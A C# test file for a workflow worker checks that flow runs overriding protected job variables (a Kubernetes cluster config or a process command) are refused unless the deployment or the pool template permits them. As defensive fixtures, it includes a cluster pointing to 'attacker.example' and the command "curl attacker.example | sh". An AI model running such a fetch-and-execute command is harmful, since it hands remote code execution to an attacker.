using System.Text.Json;
using System.Text.Json.Nodes;
using Flows.Api.Models;
using Flows.Api.WorkPools;
using Flows.Server.WorkPools;

namespace Flows.Workers.Tests;

/// <summary>
/// A flow run that carries <c>cluster_config</c> (kubernetes) or <c>command</c> (process) of its own — from a Prefect
/// server, which does not refuse it as ours does — is not run: the worker refuses it with FLOWS4011 naming the variable,
/// unless the deployment gives that same value or the pool's template allows runs to choose it.
/// </summary>
public sealed class ProtectedJobVariableTests(WorkerFixture fixture) : IClassFixture<WorkerFixture>
{
    private static readonly JsonElement AttackerCluster = JsonSerializer.SerializeToElement(new
    {
        config = new { clusters = new[] { new { name = "x", cluster = new { server = "https://attacker.example" } } } },
        context_name = "x",
    });

    [Theory]
    [InlineData("kubernetes", "cluster_config")]
    [InlineData("process", "command")]
    public async Task A_run_setting_a_protected_variable_is_refused_with_its_name(string type, string variable)
    {
        var (pool, run) = await RunAsync(type, deploymentVariables: []);
        var value = type == "kubernetes" ? AttackerCluster : JsonSerializer.SerializeToElement("sh -c 'curl attacker.example | sh'");

        var error = await Assert.ThrowsAsync<InvalidOperationException>(() => Worker(pool).PrepareAsync(pool, run with { JobVariables = new Dictionary<string, JsonElement> { [variable] = value } }, CancellationToken.None));

        Assert.StartsWith(WorkerDiagnosticCodes.ProtectedJobVariable, error.Message, StringComparison.Ordinal);
        Assert.Contains($"'{variable}'", error.Message, StringComparison.Ordinal);
        Assert.Contains(ProtectedJobVariables.AllowKeyword, error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_deployments_own_value_repeated_by_the_run_and_a_pool_that_allows_runs_to_choose_are_accepted()
    {
        var command = JsonSerializer.SerializeToElement("dotnet hello.dll");
        var (pool, run) = await RunAsync("process", deploymentVariables: new Dictionary<string, JsonElement> { ["command"] = command });
        var job = await Worker(pool).PrepareAsync(pool, run with { JobVariables = new Dictionary<string, JsonElement> { ["command"] = command } }, CancellationToken.None);
        Assert.Equal("dotnet hello.dll", (string?)job.Configuration["command"]);

        var (open, openRun) = await RunAsync("process", deploymentVariables: [], allowRunOverride: "command");
        job = await Worker(open).PrepareAsync(open, openRun with { JobVariables = new Dictionary<string, JsonElement> { ["command"] = JsonSerializer.SerializeToElement("dotnet other.dll") } }, CancellationToken.None);
        Assert.Equal("dotnet other.dll", (string?)job.Configuration["command"]);
    }

    private async Task<(WorkPool Pool, FlowRun Run)> RunAsync(string type, Dictionary<string, JsonElement> deploymentVariables, string? allowRunOverride = null)
    {
        var name = $"protected-{type}-{Guid.NewGuid():N}"[..24];
        var template = JsonNode.Parse(BaseJobTemplates.ForType(type)!.Value.GetRawText())!.AsObject();
        if (allowRunOverride is not null)
        {
            template["variables"]!["properties"]![allowRunOverride]![ProtectedJobVariables.AllowKeyword] = true;
        }

        await fixture.Client.WorkPools.CreateWorkPoolAsync(new WorkPoolCreate { Name = name, Type = type, BaseJobTemplate = JsonSerializer.SerializeToElement(template) });
        var flow = await fixture.Client.Flows.CreateFlowAsync(new FlowCreate { Name = "hello" });
        var deployment = await fixture.Client.Deployments.CreateDeploymentAsync(new DeploymentCreate
        {
            Name = name,
            FlowId = flow.Id,
            WorkPoolName = name,
            Entrypoint = "HelloFlows.cs:hello",
            JobVariables = deploymentVariables,
        });
        var run = await fixture.Client.Deployments.CreateFlowRunFromDeploymentAsync(deployment.Id);
        return (await fixture.Client.WorkPools.ReadWorkPoolAsync(name), run);
    }

    private FlowWorker Worker(WorkPool pool) => new(fixture.Client, new WorkerOptions { WorkPool = pool.Name }, new Process.ProcessInfrastructure(TextWriter.Null), TextWriter.Null);
}
